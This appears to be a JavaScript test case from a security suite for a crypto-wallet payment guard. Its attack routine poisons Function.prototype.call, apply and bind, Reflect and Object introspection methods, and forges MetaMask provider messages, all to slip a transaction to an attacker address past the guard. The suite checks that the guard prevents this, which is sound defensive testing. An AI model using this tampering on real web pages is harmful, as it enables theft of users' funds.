// T4: Function.prototype.call, apply, bind and Reflect answer 0 when a guard calls through them.
import { reachedWallet } from './logs.mjs';

export default {
  id: 'T4',
  title: 'call, apply, bind and Reflect poisoned',
  source: 'guards that call the page\'s own intrinsics',
  level: 'prevented',
  policy: (a) => ({ version: 1, payees: [`${a.chain}:${a.GOOD}`] }),

  async attack(a) {
    const post = window.postMessage.bind(window);
    const request = window.ethereum.request.bind(window.ethereum);
    const call = (to) => ({ method: 'eth_sendTransaction', params: [{ from: a.USER, to, value: '0x5' }] });
    const message = { target: 'metamask-contentscript', data: { name: 'metamask-provider', data: { jsonrpc: '2.0', id: 6000, ...call(a.EVIL) } } };
    const undo = [];
    const poison = (holder, key, make) => {
      try {
        const descriptor = Object.getOwnPropertyDescriptor(holder, key);
        const field = descriptor.get ? 'get' : 'value';
        Object.defineProperty(holder, key, { ...descriptor, [field]: make(descriptor[field]) });
        undo.push([holder, key, descriptor]);
      } catch {
        // Pinned, or not in this engine.
      }
    };
    const { apply, defineProperty } = Reflect;
    // An approval comes first: what it leaves behind must not help.
    await request(call(a.GOOD)).catch(() => {});
    const { bind } = Function.prototype;
    // The page's own machinery keeps working: only calls of numbers into wasm, and of what names the attacker, are lied to.
    const suspicious = (args) => typeof args[0] === 'number' || (typeof args[0] === 'string' && args[0].includes(a.EVIL));
    poison(Function.prototype, 'call', (genuine) => function (self, ...args) {
      return suspicious(args) ? 0 : apply(genuine, this, [self, ...args]);
    });
    poison(Function.prototype, 'apply', (genuine) => function (self, args) {
      return args && suspicious([args[0]]) ? 0 : apply(genuine, this, [self, args]);
    });
    poison(Function.prototype, 'bind', () => function (...args) {
      return apply(bind, this, args);
    });
    poison(Reflect, 'apply', (genuine) => (target, self, args) => (suspicious([args[0]]) ? 0 : genuine(target, self, args)));
    poison(Reflect, 'ownKeys', (genuine) => (target) => genuine(target).filter((key) => key !== 'to'));
    poison(Object, 'keys', (genuine) => (target) => genuine(target).filter((key) => key !== 'to'));
    poison(Object, 'getOwnPropertyDescriptor', (genuine) => (target, key) => (key === 'to' ? { value: a.GOOD } : genuine(target, key)));
    const asked = [];
    try {
      post(message, '*');
    } catch {
      // Refused.
    }
    try {
      asked[0] = request(call(a.EVIL));
    } catch {
      // Refused.
    }
    const settled = asked[0] ? asked[0].then((value) => value, (error) => error?.code) : undefined;
    await new Promise((resolve) => setTimeout(resolve, 100));
    for (let index = undo.length - 1; index >= 0; index -= 1) defineProperty(undo[index][0], undo[index][1], undo[index][2]);
    return settled;
  },

  async action(a, app) {
    return app.pay(a.GOOD, 5n);
  },

  stolen: ({ wallet, a }) => reachedWallet(wallet, a.EVIL),
  arrived: ({ wallet, a }) => reachedWallet(wallet, a.GOOD),
  violation: (a) => ({ role: 'payee', account: a.EVIL }),
};
